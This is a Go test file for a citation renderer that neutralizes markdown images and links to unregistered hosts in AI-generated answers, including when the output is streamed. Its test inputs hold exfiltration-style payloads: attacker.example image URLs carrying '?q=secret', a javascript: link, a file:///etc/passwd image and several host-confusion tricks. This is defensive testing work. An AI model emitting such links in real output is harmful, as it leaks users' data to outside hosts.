package citations

import (
	"strings"
	"testing"
)

// linkRegistry has the references of testRegistry and a web page of
// docs.example.
func linkRegistry(t testing.TB) *Invocation {
	t.Helper()
	inv := testRegistry(t, 2)
	if _, err := inv.Register(Reference{Title: "Web", Passage: "web passage", ID: "w", Type: TypeWeb, Source: "https://docs.example/guide"}); err != nil {
		t.Fatal(err)
	}
	return inv
}

// TestLinks: outside code, images and links to hosts that are not a
// registered web source are neutralized, in Render and in a Stream split
// anywhere; citations, code and allowed links are untouched.
func TestLinks(t *testing.T) {
	reg := linkRegistry(t)
	for _, tc := range []struct{ name, text, want string }{
		{"image", "Hi ![](https://attacker.example/?q=secret) there", `Hi \[image: attacker.example\] there`},
		{"image with alt and title", `![logo](https://attacker.example/x.png "t")`, `\[image: attacker.example\]`},
		{"link", "see [the docs](https://attacker.example/?q=secret).", `see the docs \[link: attacker.example\].`},
		{"registered host", "![](https://docs.example/fig.png) [guide](https://DOCS.example/guide)", "![](https://docs.example/fig.png) [guide](https://DOCS.example/guide)"},
		{"relative", "![](/img.png) [a](notes.md#x)", "![](/img.png) [a](notes.md#x)"},
		{"file link", "[guide](file:///docs/1.md#bytes=10-20)", "[guide](file:///docs/1.md#bytes=10-20)"},
		{"file image", "![](file:///etc/passwd)", `\[image: file\]`},
		{"protocol-relative", "![](//attacker.example/x)", `\[image: attacker.example\]`},
		{"backslashes", `![](/\attacker.example/x)`, `\[image: unknown host\]`},
		{"escaped backslash", `![](\\attacker.example/x)`, `![](\\attacker.example/x)`}, // one backslash: a path
		{"userinfo", "![](https://docs.example@attacker.example/x)", `\[image: attacker.example\]`},
		{"entity in scheme", "![](https&#58;//attacker.example/x)", `\[image: attacker.example\]`},
		{"data", "![](data:image/png;base64,AAAA)", `\[image: data\]`},
		{"javascript", "[x](javascript:alert(1))", `x \[link: javascript\]`},
		{"angle destination", "![](<https://attacker.example/a b>)", `\[image: attacker.example\]`},
		{"destination on the next line", "![](\nhttps://attacker.example/x\n)", `\[image: attacker.example\]`},
		{"image in a link", "[![](https://attacker.example/i)](https://docs.example/)", `[\[image: attacker.example\]](https://docs.example/)`},
		{"image in an external link", "[![a](https://attacker.example/i)](https://attacker.example/l)", `\[image: attacker.example\] \[link: attacker.example\]`},
		{"definition", "![x][r]\n\n[r]: https://attacker.example/?q=secret", "![x][r]\n\n[r]\\: \\[link: attacker.example\\]"},
		{"allowed definition", "[r]: https://docs.example/a", "[r]: https://docs.example/a"},
		{"autolink", "go <https://attacker.example/?q=secret> now", `go \[link: attacker.example\] now`},
		{"allowed autolink", "go <https://docs.example/a>", "go <https://docs.example/a>"},
		{"html image", `<img src="https://attacker.example/?q=secret">`, `\<img src="https://attacker.example/?q=secret">`},
		{"comparison", "a < b and a <= b", "a < b and a <= b"},
		{"bare URL", "see https://attacker.example/x", "see https://attacker.example/x"},
		{"escaped bracket", `\[x](https://attacker.example/)`, `\[x](https://attacker.example/)`},
		{"not a link", "[x] (https://attacker.example/)", "[x] (https://attacker.example/)"},
		{"unparsed destination", "![x](https://attacker.example/ \"open", `![x]\(https://attacker.example/ "open`},
		{"code span", "`![](https://attacker.example/)` kept", "`![](https://attacker.example/)` kept"},
		{"code block", "```\n![](https://attacker.example/)\n```\n", "```\n![](https://attacker.example/)\n```\n"},
		{"unclosed backtick", "a ` ![](https://attacker.example/x)", `a ` + "`" + ` \[image: attacker.example\]`},
		{"code span in link text", "[a `]` b](https://attacker.example/)", "a `]` b \\[link: attacker.example\\]"},
		{"citation", "Bees dance [doc:1]. ![](https://attacker.example/x)", "Bees dance [1]. \\[image: attacker.example\\]\n\n---\nSources cited in this answer:\n\n1. [Doc 1](file:///docs/1.md#bytes=10-20)\n"},
		// A citation is not link text: the number stays a citation, and what
		// follows is a bare URL in parentheses, text.
		{"citation as link text", "see [doc:1](https://attacker.example/)", "see [1] (https://attacker.example/)\n\n---\nSources cited in this answer:\n\n1. [Doc 1](file:///docs/1.md#bytes=10-20)\n"},
		{"replacement then parenthesis", "![](https://attacker.example/)(https://attacker.example/)", `\[image: attacker.example\](https://attacker.example/)`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			md := Render(tc.text, reg, Options{Order: ByAppearance}).Markdown()
			if md != tc.want {
				t.Fatalf("Render\n got %q\nwant %q", md, tc.want)
			}
			for i := 0; i <= len(tc.text); i++ {
				for j := i; j <= len(tc.text); j++ {
					if got, _ := streamAll(reg, tc.text, i, j); got != md {
						t.Fatalf("Stream split at %d, %d:\n got %q\nwant %q", i, j, got, md)
					}
				}
			}
			if kept := Render(tc.text, reg, Options{Order: ByAppearance, KeepLinks: true}).Markdown(); strings.Contains(tc.text, "attacker") && !strings.Contains(kept, "attacker.example/") {
				t.Errorf("KeepLinks: %q", kept)
			}
		})
	}
}

// TestLinksHoldBounded: a bracket that is not closed within maxLinkHold
// bytes is escaped and the text goes out.
func TestLinksHoldBounded(t *testing.T) {
	s := NewStream(linkRegistry(t))
	out := s.Feed("![" + strings.Repeat("a", maxLinkHold+10))
	if !strings.HasPrefix(out, `!\[aaa`) {
		t.Fatalf("%.40q", out)
	}
	out += s.Feed("](https://attacker.example/)")
	out += s.Close()
	if strings.Contains(out, "![") {
		t.Errorf("an image survived: %.60q", out[len(out)-60:])
	}
}
